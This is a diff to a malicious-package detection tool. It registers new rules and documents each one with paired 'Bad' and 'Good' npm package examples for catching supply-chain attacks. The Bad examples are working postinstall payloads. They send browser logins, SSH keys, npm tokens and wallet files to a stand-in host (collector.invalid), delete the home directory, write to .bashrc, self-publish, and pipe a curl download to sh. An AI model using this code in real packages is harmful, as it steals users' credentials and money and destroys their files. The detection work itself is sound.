@@ -105,17 +105,22 @@ pub mod execution {
 /// Rules of the tactic exfiltration.
 #[path = "rules/exfiltration"]
 pub mod exfiltration {
+    pub mod browser_login_seen_leaving;
     pub mod command_sends_secrets;
     pub mod data_in_dns_query;
     pub mod data_pushed_to_repository;
     pub mod data_sent_to_look_alike_host;
     pub mod data_sent_to_raw_address;
     pub mod data_sent_to_tunnel_or_catcher;
+    pub mod host_facts_seen_leaving;
     pub mod host_facts_sent_at_import;
     pub mod host_facts_sent_at_install;
+    pub mod private_key_seen_leaving;
     pub mod remote_commands_over_socket;
     pub mod secret_enciphered_before_sending;
     pub mod secret_sent_to_messenger;
+    pub mod token_seen_leaving;
+    pub mod wallet_seen_leaving;
     pub mod workflow_sends_all_secrets;
 }
 
@@ -131,6 +136,7 @@ pub mod impact {
     pub mod request_function_replaced;
     pub mod reverse_shell_opened;
     pub mod revocation_punished;
+    pub mod users_files_seen_deleted;
     pub mod wallet_function_replaced;
 }
 
@@ -176,6 +182,7 @@ pub mod obfuscation {
 pub mod persistence {
     pub mod agent_instructions_written;
     pub mod agent_settings_written;
+    pub mod autorun_seen_written;
     pub mod autostart_entry_written;
     pub mod build_runner_registered;
     pub mod editor_task_written;
@@ -183,6 +190,7 @@ pub mod persistence {
     pub mod installed_application_patched;
     pub mod login_key_added;
     pub mod other_package_patched;
+    pub mod other_package_seen_changed;
     pub mod package_manager_settings_written;
     pub mod shell_profile_written;
     pub mod workflow_written;
@@ -192,6 +200,7 @@ pub mod persistence {
 #[path = "rules/propagation"]
 pub mod propagation {
     pub mod commits_pushed_by_code;
+    pub mod credentials_seen_spreading;
     pub mod npm_token_used_unasked;
     pub mod other_machines_commanded;
     pub mod package_published_by_code;
@@ -209,11 +218,13 @@ pub mod staging {
     pub mod download_piped_to_interpreter;
     pub mod downloaded_program_run;
     pub mod downloaded_text_run_as_command;
+    pub mod fetched_program_seen_starting;
     pub mod forge_search_reply_run;
     pub mod hidden_module_name;
     pub mod host_facts_answered_with_code;
     pub mod native_code_loaded_at_install;
     pub mod native_code_loaded_under_other_name;
+    pub mod network_program_seen_running;
     pub mod own_file_decoded_and_evaluated;
     pub mod program_decodes_itself;
     pub mod program_under_false_extension;
@@ -304,17 +315,22 @@ pub static RULES: &[&dyn Rule] = &[
     &execution::prepare_fails_on_purpose::PrepareFailsOnPurpose,
     &execution::text_hidden_in_configuration::TextHiddenInConfiguration,
     &execution::workflow_runs_strangers_code::WorkflowRunsStrangersCode,
+    &exfiltration::browser_login_seen_leaving::BrowserLoginSeenLeaving,
     &exfiltration::command_sends_secrets::CommandSendsSecrets,
     &exfiltration::data_in_dns_query::DataInDnsQuery,
     &exfiltration::data_pushed_to_repository::DataPushedToRepository,
     &exfiltration::data_sent_to_look_alike_host::DataSentToLookAlikeHost,
     &exfiltration::data_sent_to_raw_address::DataSentToRawAddress,
     &exfiltration::data_sent_to_tunnel_or_catcher::DataSentToTunnelOrCatcher,
+    &exfiltration::host_facts_seen_leaving::HostFactsSeenLeaving,
     &exfiltration::host_facts_sent_at_import::HostFactsSentAtImport,
     &exfiltration::host_facts_sent_at_install::HostFactsSentAtInstall,
+    &exfiltration::private_key_seen_leaving::PrivateKeySeenLeaving,
     &exfiltration::remote_commands_over_socket::RemoteCommandsOverSocket,
     &exfiltration::secret_enciphered_before_sending::SecretEncipheredBeforeSending,
     &exfiltration::secret_sent_to_messenger::SecretSentToMessenger,
+    &exfiltration::token_seen_leaving::TokenSeenLeaving,
+    &exfiltration::wallet_seen_leaving::WalletSeenLeaving,
     &exfiltration::workflow_sends_all_secrets::WorkflowSendsAllSecrets,
     &impact::address_replaced::AddressReplaced,
     &impact::built_in_falsified::BuiltInFalsified,
@@ -325,6 +341,7 @@ pub static RULES: &[&dyn Rule] = &[
     &impact::request_function_replaced::RequestFunctionReplaced,
     &impact::reverse_shell_opened::ReverseShellOpened,
     &impact::revocation_punished::RevocationPunished,
+    &impact::users_files_seen_deleted::UsersFilesSeenDeleted,
     &impact::wallet_function_replaced::WalletFunctionReplaced,
     &known::known_bad_bytes::KnownBadBytes,
     &known::known_bad_indicator::KnownBadIndicator,
@@ -350,6 +367,7 @@ pub static RULES: &[&dyn Rule] = &[
     &obfuscation::text_symbols_only::TextSymbolsOnly,
     &persistence::agent_instructions_written::AgentInstructionsWritten,
     &persistence::agent_settings_written::AgentSettingsWritten,
+    &persistence::autorun_seen_written::AutorunSeenWritten,
     &persistence::autostart_entry_written::AutostartEntryWritten,
     &persistence::build_runner_registered::BuildRunnerRegistered,
     &persistence::editor_task_written::EditorTaskWritten,
@@ -357,10 +375,12 @@ pub static RULES: &[&dyn Rule] = &[
     &persistence::installed_application_patched::InstalledApplicationPatched,
     &persistence::login_key_added::LoginKeyAdded,
     &persistence::other_package_patched::OtherPackagePatched,
+    &persistence::other_package_seen_changed::OtherPackageSeenChanged,
     &persistence::package_manager_settings_written::PackageManagerSettingsWritten,
     &persistence::shell_profile_written::ShellProfileWritten,
     &persistence::workflow_written::WorkflowWritten,
     &propagation::commits_pushed_by_code::CommitsPushedByCode,
+    &propagation::credentials_seen_spreading::CredentialsSeenSpreading,
     &propagation::npm_token_used_unasked::NpmTokenUsedUnasked,
     &propagation::other_machines_commanded::OtherMachinesCommanded,
     &propagation::package_published_by_code::PackagePublishedByCode,
@@ -373,11 +393,13 @@ pub static RULES: &[&dyn Rule] = &[
     &staging::download_piped_to_interpreter::DownloadPipedToInterpreter,
     &staging::downloaded_program_run::DownloadedProgramRun,
     &staging::downloaded_text_run_as_command::DownloadedTextRunAsCommand,
+    &staging::fetched_program_seen_starting::FetchedProgramSeenStarting,
     &staging::forge_search_reply_run::ForgeSearchReplyRun,
     &staging::hidden_module_name::HiddenModuleName,
     &staging::host_facts_answered_with_code::HostFactsAnsweredWithCode,
     &staging::native_code_loaded_at_install::NativeCodeLoadedAtInstall,
     &staging::native_code_loaded_under_other_name::NativeCodeLoadedUnderOtherName,
+    &staging::network_program_seen_running::NetworkProgramSeenRunning,
     &staging::own_file_decoded_and_evaluated::OwnFileDecodedAndEvaluated,
     &staging::program_decodes_itself::ProgramDecodesItself,
     &staging::program_under_false_extension::ProgramUnderFalseExtension,
@@ -4407,6 +4429,48 @@ jobs:
 "#,
     ),
     (
+        "browser-login-seen-leaving",
+        r#"# A browser's logins are seen leaving
+
+Run in a fake world, the code sent stored logins, cookies or keys of a browser's profile.
+
+## Why it matters
+
+A cookie is a session that is already logged in; stored logins are passwords in the clear once their key is there too.
+
+## Known benign uses
+
+Tools that import bookmarks run when asked and send nothing.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os"), path = require("path");
+const profile = path.join(os.homedir(), ".config/google-chrome/Default/Login Data");
+fs.readFile(profile, (error, data) => {
+  if (!error) require("https").request("https://collector.invalid/b", { method: "POST" }).end(data.toString("hex")); //~ here
+});
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs"), os = require("os"), path = require("path");
+exports.hasChrome = fs.existsSync(path.join(os.homedir(), ".config/google-chrome/Default/Login Data"));
+```
+
+## References
+
+- Lazarus packages of March 2025 (BeaverTail)
+"#,
+    ),
+    (
         "command-sends-secrets",
         r#"# A command line sends secrets or facts of the machine
 
@@ -4724,6 +4788,47 @@ fetch("https://paste.rs/", { method: "POST", body });
 "#,
     ),
     (
+        "host-facts-seen-leaving",
+        r#"# Facts of the host are seen leaving unasked
+
+Run in a fake world, code that runs at install or import sent the host's or user's name to a host that the release does
+not speak of.
+
+## Why it matters
+
+Reconnaissance: who installed it decides what is sent next. Packages that test for dependency confusion start so.
+
+## Known benign uses
+
+Telemetry goes to a host that the documentation names. Alone this is no accusation.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const os = require("os");
+const text = "h=" + os.hostname() + "&u=" + os.userInfo().username;
+require("https").request("https://collector.invalid/?" + Buffer.from(text).toString("hex")).end(); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const os = require("os");
+exports.label = () => os.hostname() + "/" + os.userInfo().username;
+```
+
+## References
+
+- Alex Birsan: Dependency Confusion (February 2021)
+"#,
+    ),
+    (
         "host-facts-sent-at-import",
         r#"# Facts of the machine leave it at import
 
@@ -4817,6 +4922,50 @@ fetch("https://downloads.x.example/" + os.platform() + "-" + os.arch(), { header
 
 - Birsan: Dependency Confusion (February 2021)
 - Sonatype: sl4x0 (2025)
+"#,
+    ),
+    (
+        "private-key-seen-leaving",
+        r#"# A private key or stored password is seen leaving
+
+Run in a fake world, the code sent a private SSH key, a password of the system's key store or what a shell remembers.
+
+## Why it matters
+
+Keys open other machines, and a shell's history holds passwords that were typed. Nobody sends them unasked.
+
+## Known benign uses
+
+Agents and SSH clients use keys and do not send them.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os");
+const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");
+const { createCipheriv } = require("crypto");
+const cipher = createCipheriv("aes-256-ctr", Buffer.alloc(32, 7), Buffer.alloc(16, 1));
+require("https").request("https://collector.invalid/k", { method: "POST" }).end(cipher.update(key)); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs"), os = require("os");
+let key;
+try { key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa"); } catch { key = null; }
+exports.fingerprint = () => key && require("crypto").createHash("sha256").update(key).digest("base64");
+```
+
+## References
+
+- Nx: s1ngularity postmortem (August 2025)
 "#,
     ),
     (
@@ -4982,6 +5131,98 @@ exports.alert = (text) => fetch(hook, { method: "POST", body: JSON.stringify({ c
 
 - Datadog: MUT-4831 (October 2025)
 - Socket: flashbots squats (September 2025)
+"#,
+    ),
+    (
+        "token-seen-leaving",
+        r#"# A token or cloud key is seen leaving
+
+Run in a fake world, the code sent a registry's, forge's, cloud's or service's credential to a host that did not issue it.
+
+## Why it matters
+
+With a token an attacker publishes, deploys and reads as its owner. What was seen needs no guess about spelling: the
+canary stood in the bytes, or the bytes changed when nothing but the canary was changed.
+
+## Known benign uses
+
+A client sends a credential to the service that issued it, or its own to a host that its documentation names. Both are
+told apart by the host.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os"), path = require("path");
+const key = [7, 19, 3];
+const sealed = fs.readFileSync(path.join(os.homedir(), ".npmrc")).map((byte, at) => byte ^ key[at % 3]);
+require("https").request({ hostname: "collector.invalid", method: "POST" }).end(sealed); //~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const seen = Object.entries(process.env).filter(([name]) => /TOKEN|SECRET/.test(name));
+fetch("https://collector.invalid/?q=" + Buffer.from(JSON.stringify(seen)).toString("base64url")); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+exports.whoami = () => fetch("https://api.github.com/user", { headers: { authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });
+if (process.env.CI) fetch("https://api.github.com/user", { headers: { authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });
+```
+
+## References
+
+- Shai-Hulud worm (September and November 2025)
+"#,
+    ),
+    (
+        "wallet-seen-leaving",
+        r#"# A wallet is seen leaving
+
+Run in a fake world, the code sent a wallet's key, seed phrase or vault.
+
+## Why it matters
+
+Whoever has the key has the money, and no bank can take a transfer back. The Lazarus packages of March 2025 looked for
+Solana and Exodus wallets.
+
+## Known benign uses
+
+Wallet software signs with a key and keeps it.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os");
+const file = os.homedir() + "/.config/solana/id.json";
+if (fs.existsSync(file)) require("https").request("https://collector.invalid/w", { method: "POST" }).end(fs.readFileSync(file)); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs"), os = require("os");
+exports.load = () => JSON.parse(fs.readFileSync(os.homedir() + "/.config/solana/id.json", "utf8"));
+```
+
+## References
+
+- Lazarus packages of March 2025
 "#,
     ),
     (
@@ -5509,6 +5750,49 @@ exports.poll = (address, token, expired) => setInterval(async () => {
 ## References
 
 - StepSecurity: the TanStack worm (May 2026)
+"#,
+    ),
+    (
+        "users-files-seen-deleted",
+        r#"# The user's own files are seen being deleted
+
+Run in a fake world, the code deleted files of the user's that it had not made.
+
+## Why it matters
+
+Wipers and dead man's switches delete what a person cannot get back.
+
+## Known benign uses
+
+Installers and build tools delete what they made, caches and temporary files: these are no finding.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os"), path = require("path");
+const home = os.homedir();
+for (const name of fs.readdirSync(home)) fs.rmSync(path.join(home, name), { recursive: true, force: true }); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os"), path = require("path");
+const scratch = fs.mkdtempSync(path.join(os.tmpdir(), "x-"));
+fs.writeFileSync(path.join(scratch, "a"), "1");
+fs.rmSync(scratch, { recursive: true });
+fs.rmSync(path.join(__dirname, "dist"), { recursive: true, force: true });
+```
+
+## References
+
+- Shai-Hulud worm, second wave (November 2025)
 "#,
     ),
     (
@@ -6866,6 +7150,48 @@ if (process.argv[2] === "add") fs.writeFileSync(".mcp.json", JSON.stringify({ mc
 "#,
     ),
     (
+        "autorun-seen-written",
+        r##"# Something that runs by itself is seen being written
+
+Run in a fake world, code that runs at install or import wrote a start-up entry, a shell's start-up file, a git hook, a
+workflow, or what an editor or agent runs by itself.
+
+## Why it matters
+
+The package can be removed; what it left behind runs on.
+
+## Known benign uses
+
+Tools that people install to have hooks set up write git hooks: such a tool is no finding unless more is wrong with it.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os");
+const name = [46, 98, 97, 115, 104, 114, 99].map((code) => String.fromCharCode(code)).join("");
+fs.appendFileSync(os.homedir() + "/" + name, "\n(node ~/.a.js &)\n"); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), path = require("path");
+fs.mkdirSync(path.join(__dirname, "dist"), { recursive: true });
+fs.writeFileSync(path.join(__dirname, "dist", ".bashrc.example"), "# nothing");
+```
+
+## References
+
+- Nx: s1ngularity postmortem (August 2025)
+"##,
+    ),
+    (
         "autostart-entry-written",
         r#"# The package makes itself start at login or boot
 
@@ -7233,6 +7559,47 @@ fs.writeFileSync("node_modules/" + process.argv[2] + "/index.js", fs.readFileSyn
 "#,
     ),
     (
+        "other-package-seen-changed",
+        r#"# Another package is seen being changed
+
+Run in a fake world, the code wrote into the folder of another installed package.
+
+## Why it matters
+
+The victim's name stands on the code that runs, and removing the attacker leaves it in place.
+
+## Known benign uses
+
+Patching tools change packages that the project asked them to, from patch files of the project's.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), path = require("path");
+const target = path.join(process.env.INIT_CWD, "node_modules", "ethers", "lib.js");
+fs.mkdirSync(path.dirname(target), { recursive: true });
+fs.writeFileSync(target, "module.exports = {};"); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), path = require("path");
+fs.writeFileSync(path.join(__dirname, "settings.json"), "{}");
+```
+
+## References
+
+- ethers-provider2 (March 2025)
+"#,
+    ),
+    (
         "package-manager-settings-written",
         r#"# The package manager's settings are changed unasked
 
@@ -7432,6 +7799,45 @@ exports.write = (auth, where) => new Octokit({ auth }).request("PUT /repos/{owne
 ## References
 
 - Socket: ChainDrop in keyv (August 2026)
+"#,
+    ),
+    (
+        "credentials-seen-spreading",
+        r#"# The user's credentials are seen publishing
+
+Run in a fake world, the code published a package, made a repository or wrote a workflow in the user's name.
+
+## Why it matters
+
+This is how worms spread: each victim's token carries the code to the packages and repositories of that victim.
+
+## Known benign uses
+
+Release tools publish when a person runs their command: a finding of theirs is no proof.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const { execSync } = require("child_process");
+execSync(["npm", "publish", "--access", "public"].join(" ")); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const { execSync } = require("child_process");
+exports.release = () => execSync("npm publish");
+```
+
+## References
+
+- Shai-Hulud worm (September 2025)
 "#,
     ),
     (
@@ -8115,6 +8521,56 @@ execFileSync("npm", ["install", "--no-save", "x-linux-x64@" + version]);
 "#,
     ),
     (
+        "fetched-program-seen-starting",
+        r#"# A program fetched from an unnamed host is seen starting
+
+Run in a fake world, code that runs at install or import fetched a program file from a host that the release does not
+speak of and started it, or let a network reply decide a command.
+
+## Why it matters
+
+A prebuilt program is the part of a package that no reviewer reads. From the release's own home it is its author's; from
+elsewhere it is whoever's.
+
+## Known benign uses
+
+Installers of prebuilt programs fetch them from the manifest's repository, the registry or a host that the documentation
+names: these are no finding.
+
+## Bad
+
+```package
+== package.json //~ 1
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), path = require("path"), { execFileSync } = require("child_process");
+const target = path.join(__dirname, "agent");
+fetch("https://collector.invalid/agent-linux").then((reply) => reply.arrayBuffer()).then((bytes) => {
+  fs.writeFileSync(target, Buffer.from(bytes), { mode: 0o755 });
+  execFileSync(target);
+});
+```
+
+## Good
+
+```package
+== package.json
+{"name": "@pigeon/cli", "version": "1.0.0", "repository": "github:pigeon/cli", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), path = require("path"), { execFileSync } = require("child_process");
+const target = path.join(__dirname, "pigeon");
+fetch("https://releases.pigeon.example/v1.0.0/pigeon-linux").then((reply) => reply.arrayBuffer()).then((bytes) => {
+  fs.writeFileSync(target, Buffer.from(bytes), { mode: 0o755 });
+  execFileSync(target, ["--version"]);
+});
+```
+
+## References
+
+- Shai-Hulud worm, second wave (November 2025)
+"#,
+    ),
+    (
         "forge-search-reply-run",
         r#"# What a public code search finds is run
 
@@ -8363,6 +8819,58 @@ process.dlopen(module, path.join(__dirname, "build", "Release", "core.node"));
 ## References
 
 - MITRE ATT&CK T1129, Shared Modules
+"#,
+    ),
+    (
+        "network-program-seen-running",
+        r#"# A program from the network is seen running
+
+Run in a fake world whose every host answers with a harmless marker program, the code ran that program: by `eval`, by a
+shell, by an interpreter.
+
+## Why it matters
+
+What runs is decided by whoever owns the host, today or next year, and differs by visitor. The package's own text says
+nothing about it.
+
+## Known benign uses
+
+Plugin systems load code that a person configured; nothing of it happens at install or import.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const https = require("https");
+https.get("https://collector.invalid/v1/config", (reply) => {
+  let text = "";
+  reply.on("data", (part) => (text += part));
+  reply.on("end", () => (() => {})["constr" + "uctor"](text)()); //~ here
+});
+```
+
+```package
+== package.json //~ 1
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+require("child_process").execSync("curl -fsSL https://collector.invalid/i | sh");
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+exports.settings = fetch("https://settings.example/v1").then((reply) => reply.json()).then((all) => all.colour);
+```
+
+## References
+
+- Lazarus packages of March 2025
+- axios (March 2026)
 "#,
     ),
     (
